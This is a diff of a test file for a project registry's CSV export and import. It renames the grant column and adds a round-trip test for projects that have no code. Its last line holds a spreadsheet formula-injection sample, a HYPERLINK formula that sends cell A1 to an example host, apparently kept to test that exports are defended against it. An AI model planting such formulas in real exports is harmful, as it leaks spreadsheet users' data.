@@ -67,7 +67,8 @@ def test_csv_export_has_the_import_columns_money_and_dates(projects):
     first = rows["2014-2020.2.04.21-0013"]
     assert list(first) == COLUMNS
     assert first["Total budget"] == "29952.00"
-    assert first["EU contribution"] == "25000.00"
+    assert first["Grant"] == "25000.00"
+    assert "EU contribution" not in first  # the grant is the fund's, not always the EU's
     assert first["Co-financing rate"] == "83.5"
     assert first["Start date"] == "2021-08-02"
     assert first["Beneficiary"] == "Liit"
@@ -171,6 +172,29 @@ def test_the_public_export_of_a_region_imports_back_into_it(client, region, othe
     assert codes == {"2014-2020.2.04.21-0013", "HOP-1"}
     result = project_import(region=region, file=response.content, file_name="r.csv", dry_run=True, user=None)
     assert not result.has_errors and result.unchanged_count == 2
+
+
+def test_the_registry_export_imports_back_without_duplicating_or_losing_projects_with_no_code(client, region, projects):
+    # A project registered without a code, money or dates: the export leaves those cells empty.
+    ProjectFactory(
+        region=region, code="", slug="ilma-koodita", start_date=None, end_date=None, total_cost=None, grant_amount=None
+    )
+    ProjectFactory(
+        region=region, code="", slug="teine-ilma-koodita", name="Teine", total_cost=Decimal("10.00"), grant_amount=None
+    )
+    before = {p.slug: (p.code, p.name, p.start_date, p.total_cost, p.grant_amount) for p in Project.objects.all()}
+    response = client.get(reverse("projects:export") + f"?region={region.slug}&format=csv")
+    rows = _csv_rows(response)
+    assert {row["Project code"] for row in rows} == {"2014-2020.2.04.21-0013", "HOP-1", ""}
+    unknown = next(row for row in rows if row["Slug"] == "ilma-koodita")
+    assert (unknown["Total budget"], unknown["Grant"], unknown["Start date"]) == ("", "", "")
+
+    result = project_import(region=region, file=response.content, file_name="r.csv", dry_run=False, user=UserFactory())
+
+    assert not result.has_errors, (result.file_errors, [r.errors for r in result.error_rows])
+    assert [row.action for row in result.rows] == ["unchanged"] * 4
+    after = {p.slug: (p.code, p.name, p.start_date, p.total_cost, p.grant_amount) for p in Project.objects.all()}
+    assert after == before
 
 
 FORMULA = '=HYPERLINK("http://example.org/?leak="&A1;"Klõpsa")'
